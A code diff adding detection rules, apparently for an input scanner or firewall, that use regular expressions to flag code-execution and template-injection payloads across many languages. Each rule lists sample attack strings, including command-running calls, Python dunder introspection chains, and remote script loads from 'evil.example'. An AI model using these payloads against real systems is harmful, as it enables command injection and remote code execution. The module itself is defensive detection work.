@@ -1,0 +1,181 @@
+import { pattern, type Rule, type Span } from '../rule/rule.ts'
+import { CHAR } from '../value/features.ts'
+import type { Reading } from '../value/reading.ts'
+import { WORD } from '../value/words.ts'
+
+/** A member of something, in whatever language: `a.b`, `A::b`, `a->b`, `a/b`; a member may be called. */
+const MEMBER = String.raw`(?:[\w$]{1,32}(?:\([^()"'\n]{0,32}\))?\s?(?:\.|::|->|\?\.|:|\/)\s?)`
+/** Names of functions that run or evaluate what they are given, whoever has them. */
+const RUNS = String.raw`(?:\w{1,16}_)?(?:exec\w{0,12}|eval\w{0,12}|system\d?|popen\d?|spawn\w{0,12}|shell_?exec\w{0,8}|run_?(?:command|shell|cmd|program|process)|shell_?command|loadstring|load_?library|dlopen|getruntime|syscall)`
+/** The same as members of something: alone they are words of any program. */
+const RUNS_AS_MEMBER = String.raw`(?:run|start|command|cmd|sh|shell|process\w{0,10}|open_?\w{0,8}|read_?(?:file|all|to_string|line)\w{0,10}|load_?file|invoke|compile|deserialize|unserialize|unmarshal|slurp)`
+/** What a program is, or what it is to read, as the first argument. */
+const ARGUMENT = String.raw`(?:(?:\.|::)(?:new|run|call|output|start))?!?(?:\(\s{0,2}(?:[bru]?["'\x60]|\[\s{0,2}["']|new\s|:\w))`
+const REST = String.raw`[^\n]{0,200}(?:[)\]}"'\x60;!]|\)\.\w{1,24})\s{0,4}(?:\/\/|#|--)?\s{0,2}$`
+const LEAD = String.raw`^[\s({[<%=@!;:?&-]{0,6}(?:(?:return|await|new|print|puts|echo|lambda)\b[\s:]{1,3}){0,2}(?!(?:self|this|cls)\.)`
+
+/** Functions of PHP that no interface offers by name, and names of what is called. */
+const FUNCTION_NAME =
+  /^\s{0,2}\\?(?:passthru|shell_exec|phpinfo|php_uname|call_user_func(?:_array)?|proc_open|create_function|pcntl_exec|file_(?:get|put)_contents|var_dump|print_r|unserialize|move_uploaded_file|highlight_file|show_source|readfile)\s{0,2}$/
+const CALLED_NAME = /(?:^|[_.[-])(?:callback|callable|func|hook)\]?$/
+
+function findNamedFunction(reading: Reading): Span | undefined {
+  const { lower } = reading
+  const isCalled = FUNCTION_NAME.test(lower) && CALLED_NAME.test(reading.name)
+  return isCalled ? { start: 0, end: lower.length } : undefined
+}
+
+/**
+ * What leads from a value to the program that evaluates it, by the shape that it has in any language, not by
+ * the names of one.
+ */
+export const actingCallRules: readonly Rule[] = [
+  // Nothing but a call that runs, evaluates or opens its argument.
+  pattern(
+    'code/acting-call',
+    new RegExp(
+      `${LEAD}(?:${MEMBER}{0,6}${RUNS}${ARGUMENT}|${MEMBER}{1,6}${RUNS_AS_MEMBER}${ARGUMENT}|${MEMBER}{1,6}(?:${RUNS}|${RUNS_AS_MEMBER})\\s{1,2}["'\\x60]\\w)${REST}`,
+    ),
+    {
+      score: 5,
+      bare: true,
+      quotable: true,
+      atStart: true,
+      unlessNamed: /code|script|snippet|expression|formula|quer(?:y|ies)|sql|source|test|handler/,
+      chars: CHAR.apostrophe | CHAR.quote | CHAR.backtick,
+      words: 0,
+      attacks: [
+        'Code.eval_string("System.cmd(\\"id\\",[])")',
+        'Sys.command "id"',
+        'Process().run("id")',
+        'std::process::Command::new("id")',
+        "ctypes.CDLL(None).system(b'id')",
+        'new GroovyShell().evaluate("x")',
+        'scala.sys.process.Process("id").!',
+      ],
+      benign: [
+        'exec("x") is a bad idea, use a list',
+        'JSON.parse("1")',
+        'moment("2020").format("YYYY")',
+        'evaluation ("final")',
+        'the system ("as a whole")',
+        "document.querySelector('a')",
+        'Run "npm install"',
+        "json.loads('{}')",
+        "self.run_command('egg_info')",
+        "loader.load('file')",
+        "https://a.example/run('x')",
+      ],
+    },
+  ),
+  // The same in Lisp, where the name stands inside of the brackets, and in Tcl.
+  pattern(
+    'code/acting-list',
+    /^\s{0,4}\(\s{0,2}(?:[\w.-]{1,32}[/:]{1,2})?(?:[\w-]{1,20}-)?(?:exec|eval|shell|system|sh|spawn|run-program|run-process|call-process|start-process|slurp|load-file)(?:-[\w-]{1,20})?[*!]?\s{1,2}["'(][^\n]{0,200}\)\s{0,4}$|^\s{0,4}\[\s{0,2}(?:exec\s{1,2}(?:id|whoami|uname|cat\s|ls\b|\/bin\/)|open\s{1,2}["{]?\|\w)[^\n]{0,80}\]\s{0,2}$|\bclojure\.java\.(?:shell|io)\b\s{0,2}[\s:/\])]/,
+    {
+      score: 5,
+      bare: true,
+      quotable: true,
+      chars: CHAR.paren | CHAR.bracket,
+      words: 0,
+      attacks: [
+        '(shell-command "id")',
+        '(eval (read-string "x"))',
+        '(do (use \'[clojure.java.shell :only [sh]]) (sh "id"))',
+        '[exec id]',
+        '[open |id]',
+      ],
+      benign: ['(system as "a whole")', '[Exec Summary]', '[open | closed]', '(a "b")', 'clojure.java'],
+    },
+  ),
+  // Names that only an interpreter has, asked of an object; and what looks at a program from the inside.
+  pattern(
+    'code/inner-name',
+    /%\(\w{1,24}\.__\w{2,20}__|\{\w{1,24}\.__(?:init|globals|subclasses|mro|bases?|builtins)__|^(?!super\b)\s{0,4}[\w.]{0,32}(?:\(\s{0,2}\)|\[\]|\{\}|''|"")\.__\w{2,20}__\s{0,4}$|\bgetattr\s?\([^)\n]{0,60}["'(]__(?:globals|builtins|class|import|subclasses|mro|bases?)__|\btype\s?\(\s?["']\w{0,12}["']\s?,\s?\([^()\n]{0,12}\)\s?,\s?\{|\bobjectspace\.(?:each_object|_id2ref)|\binstance_variable_get\s?\(|\bnew\s{1,4}\\?reflection(?:function|method)\s?\(\s?["']|\bget(?:class|type)\(\s?\)\s?\.\s?getprotectiondomain|\?api\.\w|\bclass\.protectiondomain\b/,
+    {
+      score: 5,
+      quotable: true,
+      chars: CHAR.paren | CHAR.bracket | CHAR.quote | CHAR.apostrophe | CHAR.brace,
+      words: 0,
+      attacks: [
+        'input().__class__',
+        '%(x.__class__)s',
+        "type('',(),{'__del__':lambda s:print(1)})()",
+        "(new ReflectionFunction('system'))->invoke('id')",
+        "getattr(pow,Word('__globals__'))",
+        'ObjectSpace.each_object{|x|x}',
+        'instance_variable_get(:@secret)',
+        '[#assign x=y?api.class.protectionDomain]',
+      ],
+      benign: [
+        'self.__class__ is its type',
+        'super().__init__(a)',
+        'type(a).__dict__ or {}',
+        'def __init__(self):',
+        'getattr(obj, "__dict__", None)',
+        'f"<{self.__class__.__name__}>"',
+        'https://a.example/v1?api=1',
+        'type("a")',
+      ],
+    },
+  ),
+  // A function of a type of .NET, named in full.
+  pattern(
+    'code/static-type',
+    /\[(?!(?:system\.)?(?:math|string|datetime|guid|text|environment|console|convert|timespan|uri|version|array|char|enum)\b)(?:\w{2,24}\.){1,5}\w{2,32}\]::\w{2,40}\s?\(/,
+    {
+      score: 5,
+      quotable: true,
+      chars: CHAR.bracket,
+      words: 0,
+      attacks: [
+        ";[Net.Dns]::GetHostAddresses('evil.example')",
+        '[Reflection.Assembly]::Load($b)',
+        "[IO.File]::ReadAllText('x')",
+      ],
+      benign: ['[System.Math]::Round(1.5)', '[math]::Round(1)', '[a.b]: c()', '[System.Guid]::NewGuid()'],
+    },
+  ),
+  // Code where the runtime compiles it: a closure as the value of an annotation, a script from elsewhere.
+  pattern(
+    'code/compiled-value',
+    /@(?:groovy\.[\w.]{1,40}\.)?\w{2,32}\s?\(\s?value\s?=\s?\{\s{0,2}\w|\b(?:load|dofile|require|include|source|import)\s?\(\s?["'](?:https?|ftp|nashorn|classpath|jar|data|file):|\bopen\s?\(\s?\w{1,16}\s?,\s?["'][^"'\n|]{0,60}[\w/]\s?\|\s{0,2}["']|\bsend\s?\(\s?:(?:system|exec|eval|instance_eval|class_eval|spawn|syscall)\b|\bwebassembly\.\w{3,24}\s?\(\s?fetch\s?\(/,
+    {
+      score: 5,
+      quotable: true,
+      chars: CHAR.paren,
+      words: 0,
+      attacks: [
+        '@groovy.transform.ASTTest(value={assert 1})',
+        'load("http://evil.example/x.js")',
+        'load("nashorn:mozilla_compat.js")',
+        'open(F,"id|");print <F>',
+        "send(:system,'id')",
+        "WebAssembly.compileStreaming(fetch('//evil.example'))",
+      ],
+      benign: [
+        '@Column(value = "a")',
+        "require('fs')",
+        "import('./a.js')",
+        'open(f, "r")',
+        'send(:name)',
+        'load (heavy)',
+      ],
+    },
+  ),
+  {
+    id: 'code/named-function',
+    family: 'code',
+    score: 5,
+    quotable: false,
+    atStart: true,
+    chars: 0,
+    words: WORD.php,
+    places: ['query', 'body', 'cookie'],
+    needs: [FUNCTION_NAME],
+    find: findNamedFunction,
+    // By the name of the parameter: the cases are in `test/acting-calls.test.ts`.
+    attacks: [],
+    benign: ['phpinfo', 'var_dump'],
+  },
+]
